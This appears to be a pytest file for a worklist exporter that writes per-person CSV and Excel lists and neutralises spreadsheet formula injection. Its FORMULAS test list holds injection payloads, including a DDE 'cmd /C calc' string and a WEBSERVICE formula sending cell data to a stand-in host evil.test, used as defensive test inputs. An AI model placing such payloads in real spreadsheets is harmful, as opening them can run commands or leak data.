"""Worklists: in the order of the points, person by person, and nothing in them is run."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from duly.execution.channels import worklist
from duly.execution.channels.outbox import list_outbox
from duly.execution.channels.worklist import COLUMNS, Line, as_csv, as_json, as_xlsx, from_json, line_of
from duly.execution.ports import Deed, Unsendable
from duly.plan.plan import Kind
from tests.channels.deeds import MATTER, MESSAGE, task
from tests.channels.marks import Mark


def called(name: str) -> Deed:
    return replace(task(), matter=replace(MATTER, customer=replace(MATTER.customer, name=name)))


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_each_person_has_the_most_points_first() -> None:
    deeds = [
        task(1, "collector-south", 10), task(2, "collector-north", 5), task(3, "collector-north", 50),
        task(4, "collector-north", 50, amount=999_999), task(5, "collector-south", 20),
    ]  # fmt: skip
    got = [(row["person"], row["points"], row["amount"]) for row in rows(as_csv(map(line_of, deeds)))]
    assert got == [
        ("collector-north", "50", "9999.99"), ("collector-north", "50", "1234.50"), ("collector-north", "5", "1234.50"),
        ("collector-south", "20", "1234.50"), ("collector-south", "10", "1234.50"),
    ]  # fmt: skip


def test_a_workbook_has_everybody_and_a_sheet_for_each() -> None:
    book = workbook(
        as_xlsx(map(line_of, [task(1, "b/ad:name*[x]"), task(2, "collector-north"), task(3, "B/AD:NAME*[X]")]))
    )
    assert book.sheetnames == ["everybody", "1 B AD NAME  X", "2 b ad name  x", "3 collector-north"]
    assert [sheet.max_row for sheet in book] == [4, 2, 2, 2]


def test_the_same_lines_are_the_same_bytes() -> None:
    lines = [line_of(task(n)) for n in range(3)]
    assert as_xlsx(lines) == as_xlsx(reversed(lines))
    assert as_csv(lines) == as_csv(reversed(lines))


def test_a_line_is_read_back_as_it_was() -> None:
    line = line_of(replace(called('"株式会社", Ltd\n'), message=MESSAGE))
    assert from_json(as_json(line)) == line


FORMULAS = [
    "=1+1", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1", " =1+1", "\u00a0=1+1", "\r=1+1", "\n=1+1",
    '=WEBSERVICE("http://evil.test/"&A1)', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "-ism Consulting",
]  # fmt: skip
HONEST = ["Smith & Sons", "A<B Ltd", "株式会社", "O'Neil", "1+1 Ltd", 'DDE("cmd";"/C calc";"x")', "{=1+1}", "%0A=1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_cell_that_would_be_run_has_an_apostrophe_in_front(name: str) -> None:
    [row] = rows(as_csv([line_of(called(name))]))
    assert row["customer_name"] == f"'{name}"
    cell = workbook(as_xlsx([line_of(called(name))]))["everybody"].cell(2, COLUMNS.index("customer_name") + 1)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_odd_name_stays_as_it_is(name: str) -> None:
    [row] = rows(as_csv([line_of(called(name))]))
    assert row["customer_name"] == name
    cell = workbook(as_xlsx([line_of(called(name))]))["everybody"].cell(2, COLUMNS.index("customer_name") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", False)


@pytest.mark.parametrize(("amount", "shown"), [(-10_000, "-100.00"), (0, "0.00"), (2**53, "90071992547409.92")])
def test_an_amount_stays_a_number(amount: int, shown: str) -> None:
    line = line_of(task(amount=amount))
    [row] = rows(as_csv([line]))
    assert row["amount"] == shown
    cell = workbook(as_xlsx([line]))["everybody"].cell(2, COLUMNS.index("amount") + 1)
    assert (cell.data_type, cell.value) == ("n", float(shown))


@given(text=st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_no_text_at_all_is_run(text: str) -> None:
    line = replace(line_of(task()), customer_name=text, ask=text, brief=text)
    for row in rows(as_csv([line])):
        assert all(cell[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") for cell in row.values())
    for sheet in zipfile.ZipFile(io.BytesIO(as_xlsx([line]))).namelist():
        if sheet.startswith("xl/worksheets/"):
            assert b"<f" not in zipfile.ZipFile(io.BytesIO(as_xlsx([line]))).read(sheet).replace(b"<formatting", b"")


def test_undefused_the_formula_is_there(monkeypatch: pytest.MonkeyPatch) -> None:
    """The fault is planted that the table above is there for."""
    monkeypatch.setattr(worklist, "defused", lambda text: text)
    assert b",=1+1," in as_csv([line_of(called("=1+1"))])


def test_lists_are_made_of_all_lines_of_a_day_whoever_wrote_them(tmp_path: Path) -> None:
    for number, day in ((1, "2026-03-31"), (2, "2026-03-31"), (3, "2026-04-01")):
        channel = list_outbox("outbox-list", tmp_path / "lists", tmp_path)
        channel.hand_over(channel.pack(task(number, not_before=day)), Mark())
        channel.close()
    lists = sorted((tmp_path / "lists").glob("*/*.csv"))
    counts = {path.parent.name: len(rows(path.read_bytes())) for path in lists}
    assert counts == {"2026-03-31": 2, "2026-04-01": 1}


def test_lists_that_a_crash_left_undone_are_made_by_the_next_run(tmp_path: Path) -> None:
    crashed = list_outbox("outbox-list", tmp_path / "lists", tmp_path)
    crashed.hand_over(crashed.pack(task(1)), Mark())
    crashed.hand_over(crashed.pack(task(2)), Mark())
    list_outbox("outbox-list", tmp_path / "lists", tmp_path).close()
    assert len(rows((tmp_path / "lists" / "2026-03-31" / "worklist.csv").read_bytes())) == 2


def test_a_list_is_made_again_only_when_a_line_is_new(tmp_path: Path) -> None:
    channel = list_outbox("outbox-list", tmp_path / "lists", tmp_path)
    channel.hand_over(channel.pack(task(1)), Mark())
    os.utime(tmp_path / "lists" / "2026-03-31" / f"{task(1).action.id}.json", ns=(1, 1))
    channel.close()
    made = (tmp_path / "lists" / "2026-03-31" / "worklist.csv").stat().st_ino
    channel.close()
    assert (tmp_path / "lists" / "2026-03-31" / "worklist.csv").stat().st_ino == made


def test_what_is_no_line_does_not_hinder_the_lists(tmp_path: Path) -> None:
    day = tmp_path / "lists" / "2026-03-31"
    day.mkdir(parents=True)
    (day / "notes.json").write_text('{"a": 1}')
    (day / "half.json").write_bytes(b'{"a')
    channel = list_outbox("outbox-list", tmp_path / "lists", tmp_path)
    channel.hand_over(channel.pack(task()), Mark())
    channel.close()
    assert len(rows((day / "worklist.csv").read_bytes())) == 1


def test_a_cell_that_no_workbook_can_hold_is_refused() -> None:
    with pytest.raises(Unsendable) as refused:
        line_of(called("x" * 32_001))
    assert refused.value.rule == "too-long"


def test_the_brief_and_the_reasons_are_in_the_line() -> None:
    line: Line = line_of(replace(task(), message=MESSAGE))
    assert line.brief == MESSAGE.text
    assert line.because == "said so"


def test_what_is_asked_beside_a_request_to_sales_stands_in_the_line() -> None:
    """Where no channel changes limits, whoever keeps them reads here what to change."""
    ask = "raise the credit limit to 1,200.00 USD; it is 1,000.00 USD since 2025-01-01"
    line = line_of(task(1, kind=Kind.LIMIT_PROPOSAL, details=(("ask", ask),)))
    assert (line.kind, line.ask) == ("limit_proposal", ask)
